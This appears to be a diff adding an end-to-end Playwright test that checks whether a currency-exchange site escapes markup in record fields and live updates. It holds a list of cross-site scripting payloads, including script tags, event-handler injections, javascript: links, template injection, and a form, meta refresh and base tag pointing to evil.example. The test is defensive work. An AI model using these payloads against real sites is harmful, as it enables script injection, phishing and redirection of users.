@@ -1,0 +1,141 @@
+import type { Page } from 'playwright-core';
+import type { CurrencyRecord } from '../../../src/domain/currency';
+import { buildRecord } from '../../support/builders';
+import { eventually } from '../../support/eventually';
+import { readRow, readRows, waitForRows } from '../support/homePage';
+import { openEditor, save, watchWrites, wholePart } from '../support/staffPages';
+import type { OpenedPage } from '../support/world';
+import { setUpWorld } from '../support/world';
+
+/** What would run, ask elsewhere or lead away if any of it were taken for markup. */
+const payloads = [
+  '<img src=x onerror="window.hacked=1;alert(1)">',
+  '<script>window.hacked=1;alert(1)</script>',
+  '<script src="https://evil.example/x.js"></script>',
+  '"><svg onload="window.hacked=1">',
+  '\'" onmouseover="window.hacked=1" autofocus onfocus="window.hacked=1',
+  '</option></select><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
+  '</td></tr></table><form action="https://evil.example/"><input name="heslo">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<base href="https://evil.example/"><link rel="stylesheet" href="x.css">',
+  '<a href="javascript:window.hacked=1">USD</a>',
+  'javascript:window.hacked=1',
+  '{{constructor.constructor("window.hacked=1")()}}${window.hacked=1}',
+] as const;
+
+type TextField = 'acronym' | 'name_en' | 'name_sk' | 'updated';
+const textFields: readonly TextField[] = ['acronym', 'name_en', 'name_sk', 'updated'];
+
+const inTexts = textFields.flatMap((field, column) =>
+  payloads.map((payload, line) => {
+    const acronym = `X${column}${String(line).padStart(2, '0')}`;
+    return buildRecord({ acronym, [field]: field === 'acronym' ? `${acronym} ${payload}` : payload });
+  }),
+);
+const inRates = payloads.flatMap((payload, line) =>
+  (['buy', 'sell'] as const).map((side) => ({ ...buildRecord({ acronym: `Y${side}${line}` }), [side]: payload })),
+);
+const usd = buildRecord();
+// Keys can't hold some characters, so not every payload will do for one.
+const underKey = buildRecord({ acronym: 'ZZZ' });
+const MARKED_KEY = '<img src=x onerror="window·hacked=1">';
+
+const currencies = {
+  usd,
+  [MARKED_KEY]: underKey,
+  ...Object.fromEntries([...inTexts, ...inRates].map((record, index) => [`k${index}`, record])),
+};
+
+const listed = [usd, underKey, ...inTexts];
+const world = setUpWorld({ currencies });
+
+/** Asserts that all of it stayed text: nothing ran, nothing was asked for elsewhere, nothing was refused by the policy. */
+async function expectHarmless({ page, complaints }: OpenedPage, dialogs: readonly string[]): Promise<void> {
+  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+  expect(
+    await page.evaluate(
+      () => document.querySelectorAll('[onerror], [onload], [onfocus], [srcdoc], [action], base, meta[http-equiv], [href^="javascript:"]').length,
+    ),
+  ).toBe(0);
+  expect(dialogs).toEqual([]);
+  expect(complaints.list).toEqual([]);
+  expect(new URL(page.url()).origin).toBe(world().address);
+}
+
+function watchDialogs(page: Page): readonly string[] {
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  return dialogs;
+}
+
+const nameOf = ({ acronym, name_sk }: CurrencyRecord) => `${acronym} – ${name_sk}`;
+
+describe('markup in every field of a record', () => {
+  it('is shown as text by the list and the calculator, and leaves the last update alone', async () => {
+    const opened = await world().openPage();
+    const { page } = opened;
+    const dialogs = watchDialogs(page);
+    const expected = listed.map(({ acronym, name_sk }) => [acronym, name_sk, '1,187', '1,150']);
+    // Once as the database sends it, and once as the browser remembers it.
+    for (const open of [() => Promise.resolve(), () => page.reload()]) {
+      await open();
+      await waitForRows(page, listed.length);
+      expect([...(await readRows(page))].sort()).toEqual([...expected].sort());
+      expect(await page.locator('#rates-table time').textContent()).toBe('13.4.2026 o 18:00');
+      await eventually(async () => {
+        const options = await page.getByLabel('Mám').locator('option').allTextContents();
+        expect(options.slice(1).sort()).toEqual(['EUR – euro', ...[...listed, ...(inRates as CurrencyRecord[])].map(nameOf)].sort());
+      });
+    }
+
+    await page.getByPlaceholder('amount of your cash').fill('100');
+    for (const { acronym } of inTexts.slice(0, payloads.length)) {
+      await page.getByLabel('Mám').selectOption(acronym);
+      await page.getByLabel('Chcem').selectOption('USD');
+      expect(await page.getByPlaceholder('amount you will receive').inputValue()).toBe('96,88');
+      expect(await page.locator('#calculator').textContent()).toContain(acronym);
+    }
+    await expectHarmless(opened, dialogs);
+  });
+
+  it('is shown as text when it comes over the open connection', async () => {
+    const opened = await world().openPage();
+    const dialogs = watchDialogs(opened.page);
+    await waitForRows(opened.page, listed.length);
+    for (const payload of payloads) {
+      world().backend.write('/currencies/usd/name_sk', payload);
+      await eventually(async () => expect((await readRow(opened.page, 'USD'))?.[1]).toBe(payload));
+    }
+    world().backend.write('/currencies/usd', usd);
+    await expectHarmless(opened, dialogs);
+  });
+
+  it('is shown as text by the editor, whose writes stay below the currencies', async () => {
+    const opened = await openEditor(world(), { rows: listed.length });
+    const { page } = opened;
+    const dialogs = watchDialogs(page);
+    const writes = watchWrites(page);
+    const addresses: string[] = [];
+    page.on('request', (request) => addresses.push(request.url()));
+    const headers = await page.getByRole('rowheader').allTextContents();
+    expect(headers.sort()).toEqual(listed.map(({ acronym, name_sk }) => `${acronym} ${name_sk}`).sort());
+    await expectHarmless(opened, dialogs);
+
+    for (const { acronym } of inTexts.slice(0, payloads.length)) {
+      await wholePart(page, acronym, 'Nákup').fill('2');
+    }
+    await save(page);
+    await page.getByRole('dialog').getByRole('button', { name: 'Uložiť aj tak' }).click();
+    await page.getByRole('alert').getByText(`Nič sa neuložilo. Neuložilo sa ${payloads.length} mien.`).waitFor();
+    expect(writes).toHaveLength(payloads.length);
+    // No text of a record can lead a write to another place or host.
+    expect(writes.filter(({ path }) => !/^\/currencies\/[^/]+\.json$/.test(path))).toEqual([]);
+    expect(addresses.filter((address) => new URL(address).hostname !== '127.0.0.1')).toEqual([]);
+    expect(world().backend.read('/currencies')).toEqual(currencies);
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+    expect(dialogs).toEqual([]);
+  });
+});
